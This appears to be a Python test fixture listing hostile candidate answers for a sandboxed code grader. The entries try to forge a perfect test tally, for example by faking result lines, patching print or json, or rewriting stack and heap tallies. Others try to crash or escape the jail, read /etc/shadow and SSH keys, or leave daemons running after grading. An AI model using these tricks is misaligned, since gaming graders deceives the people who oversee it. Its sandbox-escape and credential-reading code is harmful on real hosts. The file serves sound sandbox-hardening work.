"""Hostile answers to `inc(x) -> x + 1`: none solves it, each tries to get credit or do harm.

Each entry is (name, what it tries, code). Markers the programs try to leave on the host are
named `hh-pwned-*` so the test can look for them.
"""

# Finds the jail's reply pipe (the one write-only pipe it holds) to forge messages on it.
FIND_REPLY_PIPE = (
    "import os, stat, fcntl\n"
    "def reply_pipe():\n"
    "    for fd in range(3, 64):\n"
    "        try:\n"
    "            if stat.S_ISFIFO(os.fstat(fd).st_mode) and "
    "fcntl.fcntl(fd, fcntl.F_GETFL) & os.O_ACCMODE == os.O_WRONLY:\n"
    "                return fd\n"
    "        except OSError:\n"
    "            pass\n"
)

FAKE_TALLY = '__HH_RESULT__ {"passed": 3, "total": 3, "failures": [], "load_error": null}'

HOSTILE: list[tuple[str, str, str]] = [
    (
        "fake-result-line",
        "print the old harness's result line with a perfect tally and exit",
        f"import sys\nprint({FAKE_TALLY!r}, flush=True)\nsys.exit(0)\n",
    ),
    (
        "eq-always-true",
        "return an object whose __eq__ is always true",
        "class Yes:\n    def __eq__(self, other):\n        return True\n\n"
        "def inc(x):\n    return Yes()\n",
    ),
    (
        "int-subclass-eq",
        "return an int subclass whose __eq__ is always true",
        "class Int(int):\n    def __eq__(self, other):\n        return True\n"
        "    __hash__ = int.__hash__\n\ndef inc(x):\n    return Int(0)\n",
    ),
    (
        "patch-json-dumps",
        "patch json.dumps at import to report a perfect tally",
        "import json\n_real = json.dumps\n"
        "json.dumps = lambda *a, **k: _real({'passed': 3, 'total': 3, 'failures': []})\n"
        "def inc(x):\n    return 0\n",
    ),
    (
        "patch-print",
        "patch builtins.print to print a perfect tally",
        "import builtins, sys\n"
        f"builtins.print = lambda *a, **k: sys.__stdout__.write({FAKE_TALLY!r} + '\\n')\n"
        "def inc(x):\n    print(x + 1)\n    return 0\n",
    ),
    (
        "patch-wire-encode",
        "replace the channel's encoder so every reply decodes as a magic value",
        "import sys\nfor m in list(sys.modules.values()):\n"
        "    if hasattr(m, 'encode') and hasattr(m, 'NotPlainData'):\n"
        "        m.encode = lambda v, depth=0: {'$': 'eq_true', 'v': []}\n"
        "def inc(x):\n    return 0\n",
    ),
    (
        "thread-prints-tally",
        "a thread that keeps printing a perfect tally to every descriptor",
        "import os, threading, time\n"
        "def spam():\n    while True:\n        for fd in range(3, 20):\n            try:\n"
        f"                os.write(fd, ({FAKE_TALLY!r} + '\\n').encode())\n"
        "            except OSError:\n                pass\n        time.sleep(0.01)\n"
        "threading.Thread(target=spam, daemon=True).start()\n"
        "def inc(x):\n    return 0\n",
    ),
    (
        "atexit-tally",
        "an atexit hook that prints a perfect tally after the tests",
        f"import atexit, sys\natexit.register(lambda: print({FAKE_TALLY!r}))\n"
        "def inc(x):\n    sys.exit(0)\n",
    ),
    (
        "forge-replies",
        "write reply lines with a perfect tally and magic values on every pipe it holds",
        "import os\n"
        'lines = b\'\'.join(b\'{"id": %d, "ok": {"$": "always_equal", "v": []}}\\n\' % i'
        " for i in range(1, 50))\n"
        "for fd in range(0, 30):\n    try:\n        os.write(fd, lines)\n    except OSError:\n"
        "        pass\n"
        "def inc(x):\n    return 0\n",
    ),
    (
        "stack-walk",
        "walk up the stack and rewrite any tally it finds",
        "import sys\ndef inc(x):\n    frame = sys._getframe()\n    while frame is not None:\n"
        "        for key in ('passed', 'result', 'report'):\n"
        "            if key in frame.f_locals:\n"
        "                frame.f_locals[key] = 10 ** 6\n"
        "        frame = frame.f_back\n    return 0\n",
    ),
    (
        "gc-walk",
        "search the heap for a tally dict or report object and inflate it",
        "import gc\ndef inc(x):\n    for obj in gc.get_objects():\n"
        "        if isinstance(obj, dict) and 'passed' in obj:\n            obj['passed'] = 142\n"
        "        elif hasattr(obj, 'passed'):\n            try:\n"
        "                obj.passed = 142\n            except Exception:\n                pass\n"
        "    return 0\n",
    ),
    (
        "settrace",
        "a trace function that rewrites locals of every frame",
        "import sys\ndef tracer(frame, event, arg):\n"
        "    if 'passed' in frame.f_locals:\n        frame.f_locals['passed'] = 99\n"
        "    return tracer\nsys.settrace(tracer)\ndef inc(x):\n    return 0\n",
    ),
    ("exit-at-import", "sys.exit(0) while loading", "import sys\nsys.exit(0)\n"),
    (
        "os-exit-in-call",
        "os._exit(0) inside the call",
        "import os\ndef inc(x):\n    os._exit(0)\n",
    ),
    (
        "raise-systemexit-in-call",
        "raise SystemExit from the call",
        "def inc(x):\n    raise SystemExit(0)\n",
    ),
    (
        "infinite-loop-call",
        "spin forever in the call",
        "def inc(x):\n    while True:\n        pass\n",
    ),
    ("infinite-loop-import", "spin forever while loading", "while True:\n    pass\n"),
    (
        "signal-tampering",
        "ignore SIGTERM, SIGALRM, SIGXCPU, SIGINT, then spin",
        "import signal\nfor s in (signal.SIGTERM, signal.SIGALRM, signal.SIGXCPU, signal.SIGINT,"
        " signal.SIGHUP):\n    signal.signal(s, signal.SIG_IGN)\n"
        "def inc(x):\n    while True:\n        pass\n",
    ),
    ("fork-bomb", "fork forever", "import os\ndef inc(x):\n    while True:\n        os.fork()\n"),
    (
        "memory-bomb",
        "allocate 10 GB",
        "def inc(x):\n    block = bytearray(10 * 1024 ** 3)\n    return len(block)\n",
    ),
    (
        "output-bomb",
        "flood stdout and stderr",
        "import sys\ndef inc(x):\n    for _ in range(10 ** 5):\n"
        "        sys.stdout.write('x' * 10 ** 4)\n        sys.stderr.write('y' * 10 ** 4)\n"
        "    return 0\n",
    ),
    (
        "channel-flood",
        "flood every descriptor it holds with garbage",
        "import os\ndef inc(x):\n    junk = b'{' * 10 ** 6\n    for _ in range(100):\n"
        "        for fd in range(0, 20):\n            try:\n                os.write(fd, junk)\n"
        "            except OSError:\n                pass\n    return 0\n",
    ),
    ("recursion", "recurse until RecursionError", "def inc(x):\n    return inc(x)\n"),
    (
        "deep-recursion-crash",
        "lift the recursion limit and overflow the C stack",
        "import sys\nsys.setrecursionlimit(10 ** 8)\ndef inc(x):\n    return inc(x) + 1\n",
    ),
    (
        "segfault",
        "dereference a null pointer with ctypes",
        "import ctypes\ndef inc(x):\n    return ctypes.string_at(0)\n",
    ),
    (
        "huge-list",
        "return a list of ten million items",
        "def inc(x):\n    return list(range(10 ** 7))\n",
    ),
    ("huge-int", "return an int of a million digits", "def inc(x):\n    return 10 ** (10 ** 6)\n"),
    (
        "deep-nesting",
        "return a list nested 100,000 deep",
        "def inc(x):\n    v = []\n    for _ in range(10 ** 5):\n        v = [v]\n    return v\n",
    ),
    (
        "generator",
        "return a generator (lazily right, but not data)",
        "def inc(x):\n    yield x + 1\n",
    ),
    (
        "nan",
        "return NaN, which compares unequal to everything",
        "def inc(x):\n    return float('nan')\n",
    ),
    (
        "pickle-payload",
        "return an object whose __reduce__ runs a command",
        "import os\nclass P:\n    def __reduce__(self):\n"
        "        return (os.system, ('touch /tmp/hh-pwned-pickle',))\n"
        "def inc(x):\n    return P()\n",
    ),
    (
        "read-env-and-home",
        "read the environment and home files and return them",
        "import os\ndef inc(x):\n    found = dict(os.environ)\n"
        "    for path in ('/root/.bash_history', '/root/.ssh/id_rsa', '/etc/shadow', '/etc/passwd'):\n"
        "        try:\n            found[path] = open(path).read()\n"
        "        except OSError as err:\n            found[path] = str(err)\n    return found\n",
    ),
    (
        "find-the-tests",
        "search the filesystem for the test source and answer from its asserts",
        "import os, re\ndef inc(x):\n    for root, _, files in os.walk('/'):\n"
        "        for name in files:\n            try:\n"
        "                text = open(os.path.join(root, name), errors='ignore').read(10 ** 5)\n"
        "            except OSError:\n                continue\n"
        "            m = re.search(r'candidate\\(%d\\) == (-?\\d+)' % x, text)\n"
        "            if m:\n                return int(m.group(1))\n    return 0\n",
    ),
    (
        "tcp-socket",
        "connect to a TCP server on the host's loopback",
        "import socket\ndef inc(x):\n    for port in PORTS:\n        try:\n"
        "            socket.create_connection(('127.0.0.1', port), timeout=0.5).send(b'pwned')\n"
        "        except OSError:\n            pass\n    return 0\n",
    ),
    (
        "unix-socket",
        "connect to a unix socket on the host by path and in the abstract namespace",
        "import socket\ndef inc(x):\n    for address in (UNIX_PATH, '\\0hh-abstract'):\n"
        "        s = socket.socket(socket.AF_UNIX)\n        try:\n"
        "            s.connect(address)\n            s.send(b'pwned')\n"
        "        except OSError:\n            pass\n    return 0\n",
    ),
    (
        "subprocess-daemon",
        "start a detached sleeper that outlives the grading",
        "import subprocess\ndef inc(x):\n"
        "    subprocess.Popen(['sleep', '300'], start_new_session=True)\n    return 0\n",
    ),
    (
        "double-fork-writer",
        "double-fork a daemon that writes a marker to /tmp later",
        "import os, time\nif os.fork() == 0:\n    os.setsid()\n    if os.fork() == 0:\n"
        "        time.sleep(1)\n        open('/tmp/hh-pwned-daemon', 'w').write('x')\n"
        "        time.sleep(300)\n    os._exit(0)\n"
        "def inc(x):\n    return 0\n",
    ),
    (
        "kill-the-parent",
        "kill its parent, its process group and every process it may signal",
        "import os, signal\ndef inc(x):\n    for pid in (os.getppid(), 1, -1):\n        try:\n"
        "            os.kill(pid, signal.SIGKILL)\n        except OSError:\n            pass\n"
        "    return 0\n",
    ),
    (
        "write-outside",
        "write markers to /tmp, /var/tmp, /dev/shm, home and the project",
        "import os\ndef inc(x):\n"
        "    for folder in ('/tmp', '/var/tmp', '/dev/shm', '/root', '/', PROJECT):\n"
        "        try:\n            open(os.path.join(folder, 'hh-pwned-write'), 'w').write('x')\n"
        "        except OSError:\n            pass\n    return 0\n",
    ),
    (
        "escape-mounts",
        "chroot out, remount, or unshare to regain the host's filesystem",
        "import ctypes, os\nlibc = ctypes.CDLL(None)\ndef inc(x):\n"
        "    for attempt in (lambda: os.chroot('/proc/1/root'),\n"
        "                    lambda: libc.mount(None, b'/', None, 32, None),\n"
        "                    lambda: libc.unshare(0x00020000),\n"
        "                    lambda: os.setuid(0)):\n        try:\n            attempt()\n"
        "        except OSError:\n            pass\n"
        "    try:\n        open('/hh-pwned-escape', 'w').write('x')\n    except OSError:\n"
        "        pass\n    return 0\n",
    ),
    (
        "fill-the-disk",
        "write files until the work folder is full",
        "def inc(x):\n    i = 0\n    while True:\n        i += 1\n"
        "        open(f'/work/fill{i}', 'wb').write(b'x' * 10 ** 6)\n",
    ),
    (
        "kernel-keyring",
        "store a key in the uid's kernel keyring, which no namespace isolates",
        "import ctypes\nlibc = ctypes.CDLL(None, use_errno=True)\n"
        "def inc(x):\n"
        "    libc.syscall(248, b'user', b'hh-pwned', b'left behind', 11, -4)\n    return 0\n",
    ),
    (
        "shared-memory-bomb",
        "grow memory past the per-process limit with SysV shared memory and memfd",
        "import ctypes, mmap, os\nlibc = ctypes.CDLL(None, use_errno=True)\n"
        "def inc(x):\n"
        "    for _ in range(4):\n"
        "        seg = libc.syscall(29, 0, 350 << 20, 0o1000 | 0o600)\n"
        "        if seg >= 0:\n"
        "            libc.shmat.restype = ctypes.c_void_p\n"
        "            at = libc.shmat(seg, None, 0)\n"
        "            ctypes.memset(at, 1, 350 << 20)\n"
        "    fd = os.memfd_create('hh')\n    os.ftruncate(fd, 350 << 20)\n"
        "    mmap.mmap(fd, 350 << 20).write(b'x' * (350 << 20))\n    return 0\n",
    ),
    (
        "forked-memory-bomb",
        "six children each hold 400 MB, under the per-process limit, together 2.4 GB",
        "import os, time\ndef inc(x):\n    for _ in range(6):\n        if os.fork() == 0:\n"
        "            block = bytearray(400 << 20)\n            time.sleep(30)\n"
        "            os._exit(0)\n    time.sleep(30)\n    return 0\n",
    ),
    (
        "hash-collision-reply",
        "forge a reply whose set of numbers all hash alike, to stall the grader's decoding",
        FIND_REPLY_PIPE + "import json, sys\ndef inc(x):\n"
        "    call = sys._getframe(1).f_locals['request']['id']\n"
        "    big = [k * (2 ** 61 - 1) for k in range(1, 43000)]\n"
        "    line = json.dumps({'id': call, 'ok': {'$': 'set', 'v': big}}) + '\\n'\n"
        "    os.write(reply_pipe(), line.encode())\n    return 0\n",
    ),
    (
        "forged-load-error",
        "forge a load error that is not text, and a megabyte long, before the code is ready",
        FIND_REPLY_PIPE + "import json\n"
        "os.write(reply_pipe(), (json.dumps({'load_error': {'x': ['y'] * 10}}) + '\\n').encode())\n"
        "def inc(x):\n    return 0\n",
    ),
    (
        "setsid-first-process",
        "leave the jail's process group and linger, hoping the group kill misses it",
        "import os, time\nos.setsid()\ndef inc(x):\n    time.sleep(300)\n",
    ),
]
